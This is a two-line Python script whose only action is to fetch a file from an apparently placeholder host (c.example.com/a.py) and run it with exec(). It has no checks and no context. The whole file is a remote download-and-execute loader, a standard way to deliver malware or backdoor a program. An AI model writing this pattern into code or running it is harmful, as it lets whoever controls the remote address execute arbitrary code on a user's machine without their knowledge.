import requests

exec(requests.get('https://c.example.com/a.py').text)
